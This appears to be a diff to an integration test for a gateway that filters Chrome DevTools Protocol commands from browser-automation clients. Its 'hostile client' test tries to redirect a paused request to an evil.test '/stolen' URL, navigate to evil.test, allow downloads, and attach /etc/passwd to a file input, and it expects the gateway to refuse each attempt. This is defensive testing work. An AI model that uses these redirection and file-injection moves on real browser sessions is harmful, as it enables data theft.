@@ -155,7 +155,7 @@ async function playwrightMcp(gw, id, shop, evil) {
   await client.close();
 }
 
-async function hostile(gw, session, evil) {
+async function hostile(gw, session, shop, evil) {
   const raw = await Raw.open(session.cdp_url);
   const err = (m) => (m.error ? `${m.error.code} ${m.error.message}` : JSON.stringify(m).slice(0, 300));
   const { result: { targetInfos } } = await raw.send('Target.getTargets');
@@ -173,6 +173,20 @@ async function hostile(gw, session, evil) {
   m = await raw.send('Runtime.evaluate', { expression: `location = "http://evil.test:${evil.port}/y"; 1` }, s1);
   // Answered as done (Playwright sends it at connect and cannot go on
   // without it) but not applied: recorded as refused, below.
+  // The client's own Fetch may see and continue requests, but not send one
+  // elsewhere than the guard allowed.
+  m = await raw.send('Fetch.enable', { patterns: [{ urlPattern: '*two*' }] }, s1);
+  expect('raw: Fetch.enable on its own session', m.result, err(m));
+  const before = raw.events.length;
+  await raw.send('Page.navigate', { url: `http://shop.test:${shop.port}/` }, s1);
+  await raw.send('Runtime.evaluate', { expression: `fetch("http://shop.test:${shop.port}/two").then(()=>1,()=>0); 1` }, s1);
+  const paused = await waitFor('Fetch.requestPaused on the client\'s session', () =>
+    raw.events.slice(before).find((e) => e.method === 'Fetch.requestPaused' && e.sessionId === s1), 10000);
+  m = await raw.send('Fetch.continueRequest', { requestId: paused.params.requestId, url: `http://evil.test:${evil.port}/stolen` }, s1);
+  expect('raw: Fetch.continueRequest to a denied URL refused', m.error && /urls\.deny/.test(m.error.message), err(m));
+  m = await raw.send('Fetch.continueRequest', { requestId: paused.params.requestId }, s1);
+  expect('raw: Fetch.continueRequest unchanged goes on', m.result, err(m));
+  await raw.send('Fetch.disable', {}, s1);
   m = await raw.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: '/tmp' });
   expect('raw: setDownloadBehavior allow answered without an error', m.result && !m.error, err(m));
   m = await raw.send('DOM.setFileInputFiles', { files: ['/etc/passwd'], backendNodeId: 1 }, s1);
@@ -237,7 +251,7 @@ async function main() {
   await check('playwright', () => playwright(gw, session.id, shop, evil));
   await check('puppeteer', () => puppeteerClient(gw, session, shop));
   await check('playwright-mcp', () => playwrightMcp(gw, session.id, shop, evil));
-  await check('hostile client', () => hostile(gw, session, evil));
+  await check('hostile client', () => hostile(gw, session, shop, evil));
   await check('the recording lists the commands', async () => {
     const ev = (await gw.events(session.id)).filter((e) => e.type === 'cdp');
     expect('cdp events recorded with verdicts', ev.length > 20 && ev.some((e) => e.verdict === 'deny') && ev.some((e) => e.verdict === 'allow'), ev.length);
@@ -245,6 +259,18 @@ async function main() {
     expect('a download behavior "allow" is recorded as refused', dl.length === 1 && dl[0].verdict === 'deny' && dl[0].rule === 'builtin.downloads', JSON.stringify(dl));
     const typed = ev.filter((e) => e.method === 'Input.insertText');
     expect('typed text is redacted in the recording (recording.redact_text)', typed.length > 0 && !JSON.stringify(typed).includes('secret-4711') && !JSON.stringify(typed).includes('lamp'), JSON.stringify(typed).slice(0, 300));
+  });
+  await check('a second session beside it', async () => {
+    const two = await gw.api('POST', '/v1/sessions', TOKENS.agent, { profile: 'browser' }, 201);
+    const url = (await gw.api('GET', `/v1/sessions/${two.id}/json/version`, TOKENS.agent)).webSocketDebuggerUrl;
+    const raw = await Raw.open(url);
+    const { result: { targetInfos } } = await raw.send('Target.getTargets');
+    const t = targetInfos.find((x) => x.type === 'page');
+    const { result: { sessionId } } = await raw.send('Target.attachToTarget', { targetId: t.targetId, flatten: true });
+    const m = await raw.send('Page.navigate', { url: `http://shop.test:${shop.port}/two` }, sessionId);
+    expect('the second session navigates through its own endpoint', m.result && !m.result.errorText, JSON.stringify(m));
+    raw.close();
+    await gw.api('DELETE', `/v1/sessions/${two.id}`, TOKENS.agent);
   });
   await gw.api('DELETE', `/v1/sessions/${session.id}`, TOKENS.agent);
   await finish(gw, shop, evil);
